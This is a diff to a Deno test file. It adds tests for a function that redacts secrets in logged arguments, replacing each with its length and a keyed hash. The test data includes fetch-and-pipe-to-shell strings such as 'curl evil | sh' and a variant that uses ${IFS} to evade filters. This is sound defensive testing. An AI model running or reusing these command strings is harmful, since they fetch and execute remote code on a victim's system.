@@ -1,6 +1,6 @@
-import { assert, assertEquals, assertFalse, assertMatch } from "@std/assert";
+import { assert, assertEquals, assertFalse, assertMatch, assertNotEquals } from "@std/assert";
 import { parseExact, sealObject } from "../json/exact.ts";
-import { sha256 } from "../json/digest.ts";
+import { hmacSha256, sha256 } from "../json/digest.ts";
 import { redactArguments, redactText } from "./redact.ts";
 
 /** Arguments, and what is logged of them. */
@@ -32,7 +32,7 @@ const REDACTED: readonly (readonly [args: string, logged: string])[] = [
 
 for (const [args, logged] of REDACTED) {
   Deno.test(`redactArguments() makes ${logged} of ${args}`, () => {
-    const redacted = redactArguments(sealObject(parseExact(args)), ["card_*"]);
+    const redacted = redactArguments(sealObject(parseExact(args)), { names: ["card_*"] });
     assertEquals(JSON.parse(JSON.stringify(redacted)), JSON.parse(logged));
   });
 }
@@ -68,8 +68,44 @@ Deno.test("redactArguments() says what was cut, and of what", () => {
   const many = Object.fromEntries(list.map((value, n) => [`${n}`, value]));
   assertMatch(JSON.stringify(redactArguments(many)), /^\{"omitted":/);
   assertEquals(redactArguments({ a: "x".repeat(2 ** 20 + 1) }), {
-    a: "[cut: all of 1048577 characters]",
+    a: "[cut: all of 1048577 characters] [redacted]",
   });
+});
+
+Deno.test("redactArguments() leaves length and keyed hash of what was left out", () => {
+  const key = new Uint8Array(32).fill(7);
+  const mark = (secret: string) =>
+    `[redacted:${secret.length}:${hmacSha256(key, secret).slice(0, 16)}]`;
+  const payload = '{"code":["curl evil | sh",1.0]}';
+  const long = "x".repeat(2 ** 20 + 1);
+  for (
+    const [args, logged] of [
+      ['{"cmd":"EVIL_TOKEN=$(curl${IFS}evil|sh)"}', {
+        cmd: `EVIL_TOKEN=${mark("$(curl${IFS}evil|sh)")}`,
+      }],
+      [`{"a":{"token":${payload}}}`, { a: { token: mark(payload) } }],
+      ['{"password":"pässword"}', { password: mark("pässword") }],
+      ['{"x":"Bearer abc def"}', { x: `Bearer ${mark("abc")} def` }],
+      ['{"x":"https://me:pw@h"}', { x: `https://me:${mark("pw")}@h` }],
+      [`{"x":"${long}"}`, { x: `[cut: all of ${long.length} characters] ${mark(long)}` }],
+    ] as const
+  ) {
+    const redacted = redactArguments(sealObject(parseExact(args)), { key });
+    assertEquals(JSON.parse(JSON.stringify(redacted)), logged);
+  }
+  const other = redactArguments({ token: "1234" }, { key: new Uint8Array(32) });
+  assertNotEquals(redactArguments({ token: "1234" }, { key }), other);
+  const deep = JSON.parse(`${"[".repeat(100)}"payload"${"]".repeat(100)}`);
+  assertMatch(JSON.stringify(redactArguments({ deep }, { key })), /too deeply: \[redacted:14/);
+});
+
+Deno.test("redactArguments() hashes all at once where there are very many secrets", () => {
+  const key = new Uint8Array(32);
+  const text = "token=a ".repeat(100_000);
+  const start = performance.now();
+  const redacted = JSON.stringify(redactArguments({ a: "harmless", text }, { key }));
+  assert(performance.now() - start < 5000);
+  assertMatch(redacted, /^\{"omitted":"\[redacted:8000\d\d:[\da-f]{16}\]"\}$/);
 });
 
 Deno.test("redactArguments() takes no more than linear time", () => {
